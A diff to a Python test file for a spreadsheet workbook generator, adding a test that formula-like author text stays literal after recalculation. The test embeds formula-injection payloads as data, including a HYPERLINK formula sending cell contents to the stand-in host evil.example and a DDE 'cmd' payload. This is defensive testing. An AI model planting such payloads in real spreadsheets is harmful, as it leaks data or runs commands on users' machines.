@@ -17,11 +17,12 @@ import openpyxl
 import pytest
 
 from generator.load.course import load_course
+from generator.model.text import Text, Value
 from generator.model.worksheet import Worksheet
 from generator.scaffold import SCAFFOLD
 from generator.workbook import build_workbook
 from generator.workbook.layout import lay_out
-from tests.spreadsheet import recalculate_many
+from tests.spreadsheet import recalculate, recalculate_many
 from tests.worksheet_factory import column as make_column
 from tests.worksheet_factory import margin_worksheet
 
@@ -176,3 +177,25 @@ def test_changing_a_parameter_changes_the_results(tmp_path: Path) -> None:
     before, after = recalculate_many([source, tmp_path / "stricter.xlsx"], tmp_path / "out")
     assert openpyxl.load_workbook(before, data_only=True)["毛利"]["G4"].value == "是"
     assert openpyxl.load_workbook(after, data_only=True)["毛利"]["G4"].value == "否"
+
+
+def test_formula_looking_author_text_stays_text_after_recalculation(tmp_path: Path) -> None:
+    """Formula injection: text from the YAML that starts with =, +, - or @ is never evaluated."""
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
+    worksheet = margin_worksheet()
+    sheet = worksheet.sheets[0]
+    sample = dict(sheet.samples[0])
+    sample[Text("客户")] = Value("=1+1")
+    sheet = dataclasses.replace(sheet, title=Text("=2+2"), samples=(sample,),
+                                summary=(dataclasses.replace(sheet.summary[0], label=Text("@SUM(1,1)")),))
+    instructions = dataclasses.replace(worksheet.instructions, purpose=Text(attack),
+                                       reading=(Text("-3+5"),), steps=(Text("+4+4"),))
+    worksheet = dataclasses.replace(worksheet, title=Text("=cmd|' /C calc'!A0"), sheets=(sheet,),
+                                    instructions=instructions)
+    source = tmp_path / "attack.xlsx"
+    source.write_bytes(build_workbook(worksheet))
+    book = recalculate(source, tmp_path / "out")
+    texts = {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row}
+    for value in (attack, "=1+1", "=2+2", "@SUM(1,1)", "-3+5", "=cmd|' /C calc'!A0"):
+        assert value in texts, value
+    assert 2 not in texts and 4 not in texts  # nothing was computed from the injected text
